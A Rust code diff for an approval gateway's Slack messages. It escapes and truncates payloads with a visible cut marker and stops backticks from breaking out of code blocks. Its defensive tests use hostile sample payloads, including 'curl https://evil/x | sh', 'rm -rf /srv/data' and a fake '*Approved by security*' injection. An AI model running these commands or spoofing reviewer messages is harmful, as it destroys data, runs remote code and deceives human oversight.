@@ -12,9 +12,14 @@ use crate::render;
 use countersign_core::{ApprovalRequest, RequestStatus, Timestamp};
 use serde_json::{Value, json};
 
-/// Longest payload shown in a message; the rest is behind the review link.
+/// Longest payload shown in a message (counted after escaping); the rest is behind the review
+/// link.
 pub const MAX_PAYLOAD_CHARS: usize = 2_500;
 const MAX_SECTION_CHARS: usize = 3_000;
+const MAX_HEADER_CHARS: usize = 150;
+/// Put between two backticks of text shown in a code block, so the text cannot close the
+/// block early (three backticks in a row end it).
+const ZERO_WIDTH_SPACE: char = '\u{200B}';
 
 /// Escapes the three characters Slack's mrkdwn gives meaning to.
 pub fn escape(text: &str) -> String {
@@ -23,19 +28,88 @@ pub fn escape(text: &str) -> String {
         .replace('>', "&gt;")
 }
 
-fn section(text: &str) -> Value {
-    let (text, _) = render::truncate(text, MAX_SECTION_CHARS);
+/// Escaped `text` cut to at most `max` characters without splitting an entity (`&amp;`), and
+/// whether it was cut.
+fn cut_escaped(text: &str, max: usize) -> (String, bool) {
+    let (mut kept, cut) = render::truncate(text, max);
+    // Escaping leaves `&` only at the start of an entity: one without its `;` was split.
+    if cut
+        && let Some(amp) = kept.rfind('&')
+        && !kept[amp..].contains(';')
+    {
+        kept.truncate(amp);
+    }
+    (kept, cut)
+}
+
+/// The line that says text was cut, and where to read all of it.
+fn cut_marker(review_url: &str) -> String {
+    format!("\n_…truncated; <{review_url}|full text in the console>_")
+}
+
+/// Escaped mrkdwn `text` in at most `max` characters: cut with [`cut_marker`] when it does
+/// not fit, so nothing disappears unsaid.
+fn fit(text: &str, max: usize, review_url: &str) -> String {
+    if text.chars().count() <= max {
+        return text.to_owned();
+    }
+    let marker = cut_marker(review_url);
+    let (kept, _) = cut_escaped(text, max.saturating_sub(marker.chars().count()));
+    kept + &marker
+}
+
+fn section(text: &str, review_url: &str) -> Value {
+    let text = fit(text, MAX_SECTION_CHARS, review_url);
     json!({"type": "section", "text": {"type": "mrkdwn", "text": text}})
 }
 
 fn header(text: &str) -> Value {
-    let (text, _) = render::truncate(text, 150);
+    let text = if text.chars().count() > MAX_HEADER_CHARS {
+        render::truncate(text, MAX_HEADER_CHARS - 1).0 + "…"
+    } else {
+        text.to_owned()
+    };
     json!({"type": "header", "text": {"type": "plain_text", "text": text}})
 }
 
-fn context(text: &str) -> Value {
-    let (text, _) = render::truncate(text, MAX_SECTION_CHARS);
+fn context(text: &str, review_url: &str) -> Value {
+    let text = fit(text, MAX_SECTION_CHARS, review_url);
     json!({"type": "context", "elements": [{"type": "mrkdwn", "text": text}]})
+}
+
+/// Escaped text made safe inside a code block: a zero-width space between any two backticks,
+/// the fences' included, so no run of three can form.
+fn code_safe(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    // The opening fence ends with a backtick.
+    let mut after_backtick = true;
+    for c in text.chars() {
+        if c == '`' && after_backtick {
+            out.push(ZERO_WIDTH_SPACE);
+        }
+        out.push(c);
+        after_backtick = c == '`';
+    }
+    out
+}
+
+/// `*Payload:*` and the payload in a code block, escaped first and then cut to fit, with the
+/// marker after the block when anything was cut.
+fn payload_section(payload: &Value, review_url: &str) -> String {
+    const OPEN: &str = "*Payload:*\n```";
+    const CLOSE: &str = "```";
+    let body = code_safe(&escape(&render::payload_text(payload)));
+    let marker = cut_marker(review_url);
+    // Room for the marker and for a zero-width space before the closing fence.
+    let room = MAX_SECTION_CHARS
+        .saturating_sub(OPEN.len() + CLOSE.len() + marker.chars().count() + 1)
+        .min(MAX_PAYLOAD_CHARS);
+    let (mut body, cut) = cut_escaped(&body, room);
+    if body.ends_with('`') {
+        body.push(ZERO_WIDTH_SPACE);
+    }
+    let marker = if cut { marker.as_str() } else { "" };
+    format!("{OPEN}{body}{CLOSE}{marker}")
 }
 
 /// The facts of a request: who asks, what, on what, the exact payload, why, under which policy.
@@ -51,21 +125,18 @@ fn facts(request: &ApprovalRequest, review_url: &str) -> Vec<Value> {
         "\n*Policy:* {}",
         escape(&request.policy_ids.join(", "))
     ));
-    let (payload, cut) = render::truncate(&render::payload_text(&a.payload), MAX_PAYLOAD_CHARS);
-    let mut payload_block = format!("*Payload:*\n```{}```", escape(&payload));
-    if cut {
-        payload_block.push_str(&format!(
-            "\n_…truncated; <{review_url}|full text in the console>_"
-        ));
-    }
     let why = match &a.justification {
         Some(j) => format!("*Justification:* {}", escape(j)),
         None => "*Justification:* _none given_".into(),
     };
-    vec![section(&who), section(&payload_block), section(&why)]
+    vec![
+        section(&who, review_url),
+        section(&payload_section(&a.payload, review_url), review_url),
+        section(&why, review_url),
+    ]
 }
 
-fn votes_block(request: &ApprovalRequest) -> Option<Value> {
+fn votes_block(request: &ApprovalRequest, review_url: &str) -> Option<Value> {
     if request.votes.is_empty() {
         return None;
     }
@@ -74,15 +145,21 @@ fn votes_block(request: &ApprovalRequest) -> Option<Value> {
         .iter()
         .map(|v| format!("• {}", escape(&render::vote_line(v))))
         .collect();
-    Some(section(&format!("*Votes:*\n{}", lines.join("\n"))))
+    Some(section(
+        &format!("*Votes:*\n{}", lines.join("\n")),
+        review_url,
+    ))
 }
 
-fn footer(request: &ApprovalRequest) -> Value {
-    context(&format!(
-        "request `{}` · payload digest `{}`",
-        escape(&request.id),
-        &request.digest.to_hex()[..16]
-    ))
+fn footer(request: &ApprovalRequest, review_url: &str) -> Value {
+    context(
+        &format!(
+            "request `{}` · payload digest `{}`",
+            escape(&request.id),
+            &request.digest.to_hex()[..16]
+        ),
+        review_url,
+    )
 }
 
 /// The message asking for review: facts, votes so far, time left, Approve / Deny and a link
@@ -99,7 +176,7 @@ pub fn review_message(
     );
     let mut blocks = vec![header(&title)];
     blocks.extend(facts(request, review_url));
-    blocks.extend(votes_block(request));
+    blocks.extend(votes_block(request, review_url));
     let quorum: Vec<String> = request
         .requirements
         .rules
@@ -109,13 +186,16 @@ pub fn review_message(
             format!("{} of {}", r.quorum, groups.join(", "))
         })
         .collect();
-    blocks.push(section(&format!(
-        "*Needs:* {} · *Time left:* {} (expires <!date^{}^{{date_short_pretty}} {{time}}|{}>)",
-        escape(&quorum.join("; ")),
-        render::time_left(request.expires_at, now),
-        request.expires_at.millis() / 1000,
-        request.expires_at.to_rfc3339()
-    )));
+    blocks.push(section(
+        &format!(
+            "*Needs:* {} · *Time left:* {} (expires <!date^{}^{{date_short_pretty}} {{time}}|{}>)",
+            escape(&quorum.join("; ")),
+            render::time_left(request.expires_at, now),
+            request.expires_at.millis() / 1000,
+            request.expires_at.to_rfc3339()
+        ),
+        review_url,
+    ));
     blocks.push(json!({
         "type": "actions",
         "block_id": "countersign_review",
@@ -132,7 +212,7 @@ pub fn review_message(
              "action_id": "countersign_open", "url": review_url}
         ]
     }));
-    blocks.push(footer(request));
+    blocks.push(footer(request, review_url));
     json!({
         // The notification text is mrkdwn too: escaped like the blocks.
         "text": escape(&format!("{title}: {} wants `{}` on {}", render::requester(request),
@@ -186,32 +266,36 @@ pub fn outcome_message(request: &ApprovalRequest, review_url: &str) -> Value {
         render::status_word(request.status),
         request.attempt.action.as_str()
     ))];
-    blocks.push(section(&format!("*{}*", escape(&line))));
+    blocks.push(section(&format!("*{}*", escape(&line)), review_url));
     if request.broke_glass() {
         blocks.push(section(
             ":rotating_light: *Break-glass:* the requester approved their own request. It is listed for review after the fact.",
+            review_url,
         ));
     }
     blocks.extend(facts(request, review_url));
-    blocks.extend(votes_block(request));
-    blocks.push(footer(request));
+    blocks.extend(votes_block(request, review_url));
+    blocks.push(footer(request, review_url));
     json!({"text": escape(&line), "blocks": blocks})
 }
 
 /// What a requester is told when their request settles.
 pub fn requester_notice(request: &ApprovalRequest, review_url: &str) -> Value {
     let line = outcome_line(request);
-    let mut blocks = vec![section(&format!(
-        "Your request for `{}` on {}: *{}*",
-        escape(request.attempt.action.as_str()),
-        escape(&render::resources(request).join(", ")),
-        escape(&line)
-    ))];
-    blocks.extend(votes_block(request));
-    blocks.push(context(&format!(
-        "<{review_url}|request {}>",
-        escape(&request.id)
-    )));
+    let mut blocks = vec![section(
+        &format!(
+            "Your request for `{}` on {}: *{}*",
+            escape(request.attempt.action.as_str()),
+            escape(&render::resources(request).join(", ")),
+            escape(&line)
+        ),
+        review_url,
+    )];
+    blocks.extend(votes_block(request, review_url));
+    blocks.push(context(
+        &format!("<{review_url}|request {}>", escape(&request.id)),
+        review_url,
+    ));
     json!({"text": escape(&format!("Your request {}: {line}", request.id)), "blocks": blocks})
 }
 
@@ -338,6 +422,89 @@ mod tests {
             if let Some(t) = block.pointer("/text/text").and_then(Value::as_str) {
                 assert!(t.chars().count() <= 3_000);
             }
+        }
+    }
+
+    /// The text of the section that shows the payload.
+    fn payload_section_of(m: &Value) -> String {
+        m["blocks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter_map(|b| b.pointer("/text/text").and_then(Value::as_str))
+            .find(|t| t.starts_with("*Payload:*"))
+            .unwrap()
+            .to_owned()
+    }
+
+    #[test]
+    fn a_payload_that_grows_when_escaped_is_cut_with_a_marker_never_silently() {
+        // Under the payload limit as written, far over it once `<` becomes `&lt;`: the tail
+        // must not vanish without the reviewer being told.
+        let payload = format!("echo {}; curl https://evil/x | sh", "<".repeat(2_400));
+        let m = review_message(&request(json!(payload)), "http://gw/r", Timestamp(0), None);
+        let text = payload_section_of(&m);
+        assert!(text.chars().count() <= 3_000, "{}", text.chars().count());
+        assert!(
+            text.ends_with("```\n_…truncated; <http://gw/r|full text in the console>_"),
+            "{text}"
+        );
+        // No entity is split by the cut.
+        let body = text.trim_end_matches(&cut_marker("http://gw/r")[..]);
+        assert!(body.trim_end_matches('`').ends_with("&lt;"), "{body}");
+        // What fits is shown whole.
+        let short = review_message(&request(json!("ls <x>")), "http://gw/r", Timestamp(0), None);
+        assert_eq!(payload_section_of(&short), "*Payload:*\n```ls &lt;x&gt;```");
+    }
+
+    #[test]
+    fn every_section_says_when_it_was_cut() {
+        let mut r = request(json!("ls"));
+        r.attempt.justification = Some(format!("{} and then the real reason", "&".repeat(2_000)));
+        let m = review_message(&r, "http://gw/r", Timestamp(0), None);
+        let why = m["blocks"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .filter_map(|b| b.pointer("/text/text").and_then(Value::as_str))
+            .find(|t| t.starts_with("*Justification:*"))
+            .unwrap();
+        assert!(why.chars().count() <= 3_000);
+        assert!(
+            why.ends_with("&amp;\n_…truncated; <http://gw/r|full text in the console>_"),
+            "{why}"
+        );
+    }
+
+    #[test]
+    fn fields_beside_the_sql_reach_the_reviewer() {
+        let r = request(json!({"sql": "SELECT 1", "command": "rm -rf /srv/data"}));
+        let m = review_message(&r, "http://gw/r", Timestamp(0), None);
+        let text = payload_section_of(&m);
+        assert!(text.contains("SELECT 1"), "{text}");
+        assert!(text.contains("rm -rf /srv/data"), "{text}");
+    }
+
+    #[test]
+    fn backticks_in_the_payload_cannot_close_the_code_block() {
+        for payload in [
+            "SELECT 1 ``` *Approved by security* ```",
+            "`SELECT 1`",
+            "``````",
+        ] {
+            let m = review_message(&request(json!(payload)), "http://gw/r", Timestamp(0), None);
+            let text = payload_section_of(&m);
+            // Only the two fences are runs of three backticks; they open and close the block.
+            assert_eq!(text.matches("``").count(), 2, "{text:?}");
+            assert!(
+                text.starts_with("*Payload:*\n```") && text.ends_with("```"),
+                "{text:?}"
+            );
+            // The reviewer still reads the payload's characters, only split invisibly.
+            assert_eq!(
+                text["*Payload:*\n```".len()..text.len() - 3].replace(ZERO_WIDTH_SPACE, ""),
+                payload
+            );
         }
     }
 
